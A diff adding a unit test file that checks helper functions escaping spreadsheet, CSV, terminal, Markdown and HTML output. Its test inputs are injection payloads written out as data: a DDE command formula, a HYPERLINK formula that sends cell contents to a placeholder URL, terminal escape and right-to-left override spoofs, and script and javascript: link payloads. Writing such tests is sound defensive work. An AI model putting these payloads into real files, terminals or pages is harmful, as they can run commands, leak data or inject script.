@@ -1,0 +1,42 @@
+import { describe, expect, it } from "vitest";
+import { csvField, htmlText, markdownText, spreadsheetText, terminalText } from "../src/_lib/inert.js";
+
+describe("spreadsheetText and csvField", () => {
+  it.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x"&A1,"点击")', "=cmd|' /C calc'!A0"])("neutralizes %j with a leading apostrophe", (text) => {
+    expect(spreadsheetText(text)).toBe(`'${text}`);
+  });
+  it("leaves ordinary text and numbers as they are", () => {
+    expect(spreadsheetText("衢州市某某协会")).toBe("衢州市某某协会");
+    expect(csvField(-5)).toBe("-5");
+    expect(csvField(true)).toBe("true");
+    expect(csvField(null)).toBe("");
+  });
+  it("quotes a field with a comma, quote or line break after neutralizing it", () => {
+    expect(csvField('=A1,"x"')).toBe(`"'=A1,""x"""`);
+    expect(csvField("a\nb")).toBe('"a\nb"');
+  });
+});
+
+describe("terminalText", () => {
+  it("shows escape sequences, line breaks and bidirectional overrides escaped", () => {
+    expect(terminalText("a\u001b[2Jb")).toBe("a\\x1b[2Jb");
+    expect(terminalText("x\nverified\r")).toBe("x\\x0averified\\x0d");
+    expect(terminalText("\u202egnp.exe")).toBe("\\u202egnp.exe");
+    expect(terminalText("\u009b31m")).toBe("\\x9b31m");
+  });
+  it("leaves Chinese text and ordinary punctuation alone", () => {
+    expect(terminalText("基金会（测试）: ok")).toBe("基金会（测试）: ok");
+  });
+});
+
+describe("markdownText and htmlText", () => {
+  it("escapes HTML and the punctuation that starts Markdown constructs", () => {
+    expect(markdownText("<script>alert(1)</script>")).toBe("&lt;script&gt;alert(1)&lt;/script&gt;");
+    expect(markdownText("[x](javascript:alert(1))")).toBe("\\[x\\](javascript\\:alert(1))");
+    expect(markdownText("a\n# forged heading")).toBe("a\\\\x0a\\# forged heading");
+    expect(markdownText("| cell |")).toBe("\\| cell \\|");
+  });
+  it("escapes HTML's five special characters", () => {
+    expect(htmlText(`<a href="x" title='y'>&</a>`)).toBe("&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;");
+  });
+});
